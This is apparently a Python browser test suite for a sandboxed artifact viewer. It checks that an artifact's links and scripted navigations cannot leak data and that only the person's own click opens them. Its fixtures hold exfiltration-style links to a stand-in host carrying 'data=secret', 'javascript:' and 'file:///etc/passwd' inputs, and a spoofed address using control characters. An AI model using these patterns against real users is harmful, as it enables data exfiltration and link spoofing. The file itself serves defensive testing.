"""Links in an artifact, in real Chromium: they never navigate the frame.

Who attacks: an artifact's page (its links, or its script clicking them).
What it tries: carry data out in a followed link's address: a navigation the shell's
frame-src blocks still makes the browser resolve (and preconnect) the host, and a host name
such as ``<secret>.example.invalid`` is data.
What must hold: a click on a link to another document is cancelled in the frame before any
navigation starts and handed to the shell, which shows the address and opens it in a new
window only when the person clicks the shell's own link. A link within the page still works.
"""

from __future__ import annotations

import pytest

from tests.browser.conftest import open_view
from tests.browser.test_security import Tripwire

pytestmark = pytest.mark.slow

TARGET = "http://sub.example.invalid/leak?data=secret"

LINKS = """<!doctype html><body style="margin:0">
<p><a id=plain href="http://sub.example.invalid/leak?data=secret">plain</a></p>
<p><a id=nested href="http://sub.example.invalid/leak?data=secret" target=_top><b id=inner>nested in a link</b></a></p>
<p><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=40 height=20 usemap=#m id=img>
   <map name=m><area id=area shape=rect coords=0,0,40,20 href="http://sub.example.invalid/leak?data=secret"></map></p>
<svg width=60 height=20><a id=svg href="http://sub.example.invalid/leak?data=secret"><rect width=60 height=20 fill=red /></a></svg>
<p><a id=hash href="#below">within the page</a></p>
<div id=host></div>
<p id=below style="margin-top:1200px">below</p>
<script>
  var root = document.getElementById("host").attachShadow({ mode: "open" });
  root.innerHTML = '<a id=shadow href="http://sub.example.invalid/leak?data=secret">in a shadow root</a>';
</script></body>"""


@pytest.fixture
def requests_seen(page):
    seen: list[str] = []
    page.on("request", lambda r: seen.append(r.url))
    return seen


def frame_url(frame) -> str:
    return frame.evaluate("location.href")


@pytest.mark.parametrize("selector", ["#plain", "#inner", "#area", "#svg rect", "shadow"])
def test_a_click_on_a_link_asks_the_shell_and_does_not_navigate(live_server, page, requests_seen, selector) -> None:
    aid = live_server.import_artifact(LINKS, type="html")
    frame = open_view(page, live_server.view_url(aid))
    before = frame_url(frame)
    if selector == "shadow":
        frame.locator("#host").locator("#shadow").click()
    elif selector == "#area":  # an image map's area is clicked through its image
        frame.click("#img", position={"x": 5, "y": 5})
    else:
        frame.click(selector)
    offer = page.wait_for_selector("#link-offer a", timeout=5000)
    assert offer.get_attribute("href") == TARGET
    assert offer.get_attribute("target") == "_blank" and offer.get_attribute("rel") == "noopener noreferrer"
    page.wait_for_timeout(500)
    assert frame_url(frame) == before  # the frame is still the artifact
    assert frame.evaluate("document.getElementById('plain') !== null")
    assert not [u for u in requests_seen if "example.invalid" in u]


def test_a_scripted_click_and_a_middle_click_do_not_navigate_either(live_server, page, requests_seen) -> None:
    aid = live_server.import_artifact(LINKS, type="html")
    frame = open_view(page, live_server.view_url(aid))
    before = frame_url(frame)
    frame.evaluate("document.getElementById('plain').click()")
    frame.click("#nested", button="middle")
    page.wait_for_timeout(500)
    assert frame_url(frame) == before
    assert len(page.context.pages) == 1
    assert not [u for u in requests_seen if "example.invalid" in u]


def test_a_link_within_the_page_still_scrolls(live_server, page) -> None:
    aid = live_server.import_artifact(LINKS, type="html")
    frame = open_view(page, live_server.view_url(aid))
    frame.click("#hash")
    frame.wait_for_function("location.hash === '#below' && window.scrollY > 500")
    assert page.locator("#link-offer").count() == 0


def test_the_offered_link_opens_only_on_the_persons_click(live_server, page) -> None:
    wire = Tripwire()
    try:
        source = f'<!doctype html><a id=go href="{wire.origin}/opened?x=1">go</a>'
        aid = live_server.import_artifact(source, type="html")
        frame = open_view(page, live_server.view_url(aid))
        frame.click("#go")
        page.wait_for_selector("#link-offer a")
        page.wait_for_timeout(300)
        assert wire.requests == [] and wire.connections == 0  # asked, not sent
        with page.context.expect_page() as popup:
            page.click("#link-offer a")
        popup.value.wait_for_load_state()
        assert [r for r in wire.requests if r[1] != "/favicon.ico"] == [("GET", "/opened?x=1")]
        assert page.locator("#link-offer").count() == 0
    finally:
        wire.close()


@pytest.mark.parametrize(
    "url, said",
    [
        ("javascript:alert(1)", "javascript: link"),
        ("data:text/html,<p>x", "data: link"),
        ("file:///etc/passwd", "file: link"),
        ("{base}/view/other", "a page of live-artifacts itself"),
        ("not a url", None),
    ],
)
def test_the_shell_offers_only_web_links_to_other_sites(live_server, page, url, said) -> None:
    aid = live_server.import_artifact("<!doctype html><p id=p>x</p>", type="html")
    frame = open_view(page, live_server.view_url(aid))
    frame.evaluate(
        "(u) => parent.postMessage({ __artifacts: 1, event: 'open-link', url: u }, '*')",
        url.format(base=live_server.base_url),
    )
    page.wait_for_timeout(300)
    assert page.locator("#link-offer").count() == 0
    if said:
        assert said in page.inner_text("#status")


@pytest.mark.parametrize(
    "how",
    ["location.href = T", "location.assign(T)", "window.open(T)", "document.getElementById('plain').click()"],
)
def test_scripted_navigations_stay_blocked(live_server, page, requests_seen, how) -> None:
    """location = … cannot be intercepted in the page (Location is unforgeable): the shell's
    frame-src still refuses it (see docs: the host name may still be resolved)."""
    aid = live_server.import_artifact(LINKS, type="html")
    frame = open_view(page, live_server.view_url(aid))
    try:
        frame.evaluate(f"(T) => {{ {how}; }}", TARGET)
    except Exception:
        pass
    page.wait_for_timeout(800)
    assert page.url.startswith(live_server.base_url)
    assert len(page.context.pages) == 1
    assert not [u for u in requests_seen if "example.invalid" in u and not u.startswith("chrome-error")]


# -- the shell's confirmation: only the person's own click, on the shell's own Open, opens a link


POST_LINK = "(u) => parent.postMessage({ __artifacts: 1, event: 'open-link', url: u }, '*')"


def test_an_artifact_cannot_open_a_link_by_itself(live_server, page, requests_seen) -> None:
    """It can click its own links and post the shell's message itself: the shell only asks."""
    aid = live_server.import_artifact(LINKS, type="html")
    frame = open_view(page, live_server.view_url(aid))
    frame.evaluate("document.getElementById('plain').click()")
    for _ in range(5):
        frame.evaluate(POST_LINK, TARGET)
    page.locator("#link-offer").wait_for()
    assert page.locator("#link-offer").count() == 1
    assert page.locator("#link-offer .address").inner_text() == TARGET
    page.wait_for_timeout(1000)
    assert len(page.context.pages) == 1
    assert not [u for u in requests_seen if "example.invalid" in u]


def test_a_bar_that_just_changed_cannot_be_clicked_through(live_server, page, requests_seen) -> None:
    """An artifact swaps the address under the person's pointer: a click in the first moments
    after the bar shows or changes opens nothing."""
    aid = live_server.import_artifact(LINKS, type="html")
    frame = open_view(page, live_server.view_url(aid))
    frame.evaluate(POST_LINK, "https://harmless.example.invalid/")
    page.locator("#link-offer").wait_for()
    page.wait_for_timeout(700)
    frame.evaluate(POST_LINK, TARGET)
    page.locator("#link-open").click(force=True)  # at once: not yet armed
    page.wait_for_timeout(500)
    assert len(page.context.pages) == 1
    assert page.locator("#link-offer .address").inner_text() == TARGET
    assert not [u for u in requests_seen if "example.invalid" in u]


CONTROL = "https://example.invalid/a\u202egnp.exe?q=\u0007\u200b\u0000x"


def test_an_address_with_control_characters_is_shown_as_what_it_is(live_server, page) -> None:
    aid = live_server.import_artifact("<!doctype html><p>x</p>", type="html")
    frame = open_view(page, live_server.view_url(aid))
    frame.evaluate(POST_LINK, CONTROL)
    shown = page.locator("#link-offer .address").inner_text()
    assert shown.isascii() and shown.isprintable(), shown
    assert shown.startswith("https://example.invalid/a")
    assert page.locator("#link-open").get_attribute("href") == shown  # what it says is where it goes


def test_a_very_long_address_is_shown_whole_in_a_box_and_a_huge_one_refused(live_server, page) -> None:
    aid = live_server.import_artifact("<!doctype html><p>x</p>", type="html")
    frame = open_view(page, live_server.view_url(aid))
    long = "https://example.invalid/" + "a" * 5000
    frame.evaluate(POST_LINK, long)
    assert page.locator("#link-offer .address").inner_text() == long
    bar = page.locator("#link-offer").bounding_box()
    assert bar is not None and bar["height"] < 200  # the frame stays in view
    assert page.locator("#link-open").is_visible() and page.locator("#link-cancel").is_visible()
    page.locator("#link-cancel").click()
    frame.evaluate(POST_LINK, "https://example.invalid/" + "a" * 9000)
    page.wait_for_timeout(300)
    assert page.locator("#link-offer").count() == 0
    assert "too long" in page.inner_text("#status")


def test_a_javascript_link_does_not_run_and_says_so_quietly(live_server, page) -> None:
    source = "<!doctype html><a id=js href=\"javascript:window.__ran = 1\">run</a><a id=void href='javascript:void(0)' onclick='window.__clicked = 1'>menu</a>"
    aid = live_server.import_artifact(source, type="html")
    frame = open_view(page, live_server.view_url(aid))
    frame.click("#void")
    assert frame.evaluate("window.__clicked") == 1  # its own click handler still runs
    frame.click("#js")
    frame.wait_for_selector("#__artifact_notice")
    assert frame.evaluate("window.__ran") is None
    lines = frame.locator("#__artifact_notice li").all_inner_texts()
    assert len(lines) == 1 and "javascript:" in lines[0]
    assert page.locator("#link-offer").count() == 0
